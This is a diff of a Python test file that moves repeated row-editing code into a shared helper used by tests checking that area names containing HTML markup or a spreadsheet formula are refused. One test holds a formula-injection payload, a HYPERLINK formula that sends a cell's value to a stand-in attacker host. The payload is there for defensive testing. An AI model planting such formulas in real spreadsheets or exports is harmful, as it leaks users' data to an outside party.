@@ -234,19 +234,26 @@ def test_names_not_in_the_code_lookup(attempt: Attempt, public: Path) -> None:
     assert where["camden"] < where["southwark"] < where["unknown"]
 
 
-def test_a_name_with_markup_everywhere_is_still_refused(attempt: Attempt, public: Path) -> None:
-    """Both files agree on the HTML name, so it is in the lookup: it is still not text."""
-    rows_of = {}
+def renamed(new: str, rows_of: dict[str, list[int]]) -> Callable[[str], Callable[[Rows], None]]:
+    """For a file name, a change that renames Camden to `new` on every row of that file,
+    noting the rows in `rows_of`."""
 
     def change(name: str) -> Callable[[Rows], None]:
         def apply(rows: Rows) -> None:
             column = rows[0].index("la_name")
             rows_of[name] = [i for i, r in enumerate(rows) if r[column] == "Camden"]
             for i in rows_of[name]:
-                rows[i][column] = "<b>Camden</b>"
+                rows[i][column] = new
 
         return apply
 
+    return change
+
+
+def test_a_name_with_markup_everywhere_is_still_refused(attempt: Attempt, public: Path) -> None:
+    """Both files agree on the HTML name, so it is in the lookup: it is still not text."""
+    rows_of: dict[str, list[int]] = {}
+    change = renamed("<b>Camden</b>", rows_of)
     edit(public, B1, change(B1))
     edit(public, POP, change(POP))
     message = (
@@ -306,17 +313,8 @@ def test_a_name_with_markup_is_escaped_in_html_even_past_the_checks() -> None:
 def test_a_formula_as_an_area_name_in_both_files_is_refused(attempt: Attempt, public: Path) -> None:
     """Both files agree on the name, so the code lookup holds it: still not a name."""
     formula = '=HYPERLINK("https://evil.example/?x="&B2,"Camden")'
-    rows_of = {}
-
-    def change(name: str) -> Callable[[Rows], None]:
-        def apply(rows: Rows) -> None:
-            column = rows[0].index("la_name")
-            rows_of[name] = [i for i, r in enumerate(rows) if r[column] == "Camden"]
-            for i in rows_of[name]:
-                rows[i][column] = formula
-
-        return apply
-
+    rows_of: dict[str, list[int]] = {}
+    change = renamed(formula, rows_of)
     edit(public, B1, change(B1))
     edit(public, POP, change(POP))
     message = (
